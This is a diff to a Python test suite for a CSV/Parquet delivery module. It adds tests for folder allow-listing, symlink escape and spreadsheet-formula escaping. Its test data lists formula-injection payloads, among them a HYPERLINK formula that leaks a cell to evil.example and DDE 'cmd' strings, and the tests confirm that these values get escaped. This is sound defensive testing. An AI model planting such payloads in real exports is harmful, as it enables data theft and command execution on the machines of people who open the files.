@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import os
 from datetime import date
 from pathlib import Path
@@ -63,9 +64,16 @@ def test_file_whose_rows_changed_is_replaced_and_one_without_rows_is_taken_back(
     assert not path.exists()
 
 
-def test_absolute_folder_outside_the_state_is_the_choice_of_who_declares_it(tmp_path: Path) -> None:
+def test_absolute_folder_outside_the_state_is_refused_unless_the_machine_allows_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     delivery = Delivery(table="worklist", folder=str(tmp_path / "desk"))
 
+    with pytest.raises(DeliveryError, match=r"desk is not among the folders of \$ML_ASSETS_DELIVERY_FOLDERS"):
+        handed(StatePaths(tmp_path / "data"), delivery)
+    assert not (tmp_path / "desk").exists()
+
+    monkeypatch.setenv("ML_ASSETS_DELIVERY_FOLDERS", f"relative{os.pathsep}{tmp_path / 'desk'}")
     assert handed(StatePaths(tmp_path / "data"), delivery) == tmp_path / "desk" / "2013-04-01.csv"
 
 
@@ -88,7 +96,71 @@ def test_link_out_of_the_delivered_files_is_not_followed(tmp_path: Path) -> None
     assert list((tmp_path / "elsewhere").iterdir()) == []
 
 
-def test_folder_that_cannot_be_written_to_is_named_with_the_reason(tmp_path: Path) -> None:
+def test_link_in_an_allowed_folder_leads_nowhere_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "desk").mkdir()
+    (tmp_path / "desk" / "out").symlink_to(tmp_path)
+    monkeypatch.setenv("ML_ASSETS_DELIVERY_FOLDERS", str(tmp_path / "desk"))
+
+    with pytest.raises(DeliveryError, match="is not among the folders"):
+        handed(StatePaths(tmp_path / "data"), Delivery(table="worklist", folder=str(tmp_path / "desk" / "out")))
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|'A'!A0",
+            "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "-1.5.2", "--1", "=1")  # fmt: skip
+PLAIN = (
+    "a\r=1+1",
+    "a\r\n=1+1",
+    "a\n=1+1",
+    "-1.5",
+    "+3",
+    "-.5e-3",
+    "1=1",
+    "a@b.example",
+    "-",
+    "",
+    "'",
+    '5" box',
+    "UA-12",
+)
+
+
+def test_texts_that_a_spreadsheet_would_run_are_escaped_in_csv_and_nothing_else_is(tmp_path: Path) -> None:
+    rows = pa.table({"example_id": [*FORMULAS, *PLAIN, None], "score": [-1.5] * (len(FORMULAS) + len(PLAIN)) + [None]})
+
+    path = handed(StatePaths(tmp_path), Delivery(table="worklist"), rows)
+
+    assert path is not None
+    with path.open(newline="") as file:
+        found = list(csv.reader(file))[1:]
+    assert [row[0] for row in found] == [*(f"'{value}" for value in FORMULAS), *PLAIN, ""]
+    assert {row[1] for row in found} == {"-1.5", ""}
+
+
+def test_use_case_can_declare_that_texts_are_delivered_as_they_are(tmp_path: Path) -> None:
+    rows = pa.table({"example_id": pa.array(FORMULAS).dictionary_encode()})
+
+    path = handed(StatePaths(tmp_path), Delivery(table="worklist", escape_formulas=False), rows)
+    escaped = handed(StatePaths(tmp_path), Delivery(table="worklist", folder="desk"), rows)
+
+    assert path is not None
+    assert escaped is not None
+    with path.open(newline="") as file:
+        assert tuple(row[0] for row in list(csv.reader(file))[1:]) == FORMULAS
+    assert escaped.read_text().count("'=") == 3
+
+
+def test_parquet_keeps_texts_as_they_are(tmp_path: Path) -> None:
+    rows = pa.table({"example_id": FORMULAS})
+
+    path = handed(StatePaths(tmp_path), Delivery(table="worklist", format="parquet"), rows)
+
+    assert pq.read_table(path).equals(rows)
+
+
+def test_folder_that_cannot_be_written_to_is_named_with_the_reason(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ML_ASSETS_DELIVERY_FOLDERS", str(tmp_path))
     (tmp_path / "desk").write_text("a file")
 
     with pytest.raises(DeliveryError, match=r"worklist of 2013-04-01 cannot be delivered to .*desk/2013-04-01\.csv: "):
